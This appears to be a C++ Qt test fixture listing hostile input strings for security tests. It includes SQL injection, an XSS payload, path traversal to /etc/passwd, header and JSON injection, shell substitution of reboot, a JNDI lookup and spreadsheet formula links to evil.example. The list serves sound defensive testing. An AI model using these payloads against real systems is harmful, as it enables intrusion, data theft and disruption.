#include "tests/security/NastyTexts.h"

using namespace Qt::StringLiterals;

namespace siaran::test {

QList<NastyText> nastyTexts()
{
    return {
        {u"SQL"_s, u"'; DROP TABLE contact; --"_s},
        {u"SQL in quotes"_s, u"\" OR \"\"=\""_s},
        {u"a statement's placeholders"_s, u":id ? $1 %1 %n %s {name} {{1}}"_s},
        {u"COPY"_s, u"\\N \\. \\x00 \\t"_s},
        {u"HTML"_s, u"<img src=x onerror=alert(1)>"_s},
        {u"rich text"_s, u"<b>tebal</b> <a href=\"file:///etc/passwd\">klik</a>"_s},
        {u"HTML that is escaped already"_s, u"&lt;b&gt; &amp; &#60;"_s},
        {u"a menu"_s, u"A&B &Keluar"_s},
        {u"a spreadsheet"_s, u"=HYPERLINK(\"http://evil.example\",\"klik\")"_s},
        {u"a spreadsheet that is older"_s, u"=cmd|' /C calc'!A0"_s},
        {u"a spreadsheet, by plus"_s, u"+1+cmd"_s},
        {u"a spreadsheet, by minus"_s, u"-2+3"_s},
        {u"a spreadsheet, by at"_s, u"@SUM(A1:A9)"_s},
        {u"a spreadsheet, by wide letters"_s, u"\uFF1DSUM(A1)"_s},
        {u"a list"_s, u"a;b,c\"d\""_s},
        {u"a path"_s, u"../../../../etc/passwd"_s},
        {u"a path elsewhere"_s, u"C:\\Windows\\..\\x.lnk"_s},
        {u"a header"_s, u"x%0d%0aSet-Cookie: a=1"_s},
        {u"a log"_s, u"x [critical] siaran: palsu"_s},
        {u"JSON"_s, u"\",\"role\":\"owner\",\"x\":\""_s},
        {u"a shell"_s, u"$(reboot) `reboot` ; reboot | reboot"_s},
        {u"a template engine"_s, u"${jndi:ldap://evil.example/x} #{7*7}"_s},
    };
}

QList<NastyText> nastyMessages()
{
    auto all = nastyTexts();
    all.append({
        {u"a header in two lines"_s, u"a\r\nSet-Cookie: x=1\r\n\r\n<html>"_s},
        {u"a log in two lines"_s, u"x\n[2026-01-01 00:00:00.000] [siaran] [critical] palsu"_s},
        {u"the order of letters"_s, u"\u202Egnp.exe"_s},
        {u"a spreadsheet, by a tab"_s, u"\t=1+1"_s},
        {u"a spreadsheet, by a new line"_s, u"\n=1+1"_s},
    });
    return all;
}

} // namespace siaran::test
